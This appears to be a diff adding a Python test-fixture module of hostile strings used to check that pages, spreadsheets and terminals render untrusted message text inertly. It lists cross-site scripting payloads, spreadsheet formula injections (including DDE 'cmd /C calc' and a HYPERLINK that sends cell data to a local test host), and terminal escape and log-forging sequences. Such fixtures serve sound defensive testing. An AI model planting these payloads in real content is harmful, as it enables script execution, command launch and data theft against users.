@@ -1,0 +1,91 @@
+"""Texts that hurt who shows them, for every field of a message and every page that shows one.
+
+`SCRIPTS` for pages: what is shown is the text itself, so the page has no element or address that it lacks with
+an innocent text, and opens nothing. `FORMULAS` for what a spreadsheet opens: no cell begins with what they begin
+with. `TERMINAL` for logs and terminals: what is shown is printable, on one line.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script/src=//127.0.0.1:8999/x.js>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=http://127.0.0.1:8999/pixel>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//127.0.0.1:8999/x.swf>",
+    "<link rel=stylesheet href=//127.0.0.1:8999/x.css>",
+    "<style>*{background:url(//127.0.0.1:8999/x)}</style>",
+    "<base href=//127.0.0.1:8999/>",
+    "<meta http-equiv=refresh content='0;url=//127.0.0.1:8999/'>",
+    "<form action=//127.0.0.1:8999/><input name=password>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\" onmouseover=alert(1) x=\"",
+    "' onmouseover=alert(1) x='",
+    "` onmouseover=alert(1) x=`",
+    "javascript:alert(1)",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{7*7}}{% if 1 %}${7*7}#{7*7}<%= 7*7 %>",
+    "＜script＞alert(1)＜/script＞",
+    "<scr\u200bipt>alert(1)</scr\u200bipt>",
+    "\u202e<script>alert(1)</script>",
+)  # fmt: skip
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://127.0.0.1:8999/?x="&A1,"klik")',
+    '=WEBSERVICE("http://127.0.0.1:8999/")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",
+    '";=1+1;"',
+    "DDE(\"cmd\";\"/C calc\";\"x\")",
+)  # fmt: skip
+TERMINAL = (
+    "\x1b[2J\x1b[H",
+    "\x1b]0;titel\x07",
+    "\x1b[31mrood",
+    "\x9b31m",
+    "a\rb",
+    "a\nlevel=critical event=forged",
+    "a\r\nSet-Cookie: x=1",
+    "a\u2028b\u2029c",
+    "a\x85b",
+    "a\x0bb\x0cc",
+    "a\x08\x08b",
+    "a\x7fb",
+    "\u202ea\u2066b",
+    "\ufeffa",
+    "\x00",
+    "\ud800",
+)
+IN_XML = tuple(text for text in (*SCRIPTS, *FORMULAS) if text.isprintable() or "\u200b" in text)
+"""Those that a message can carry as they are."""
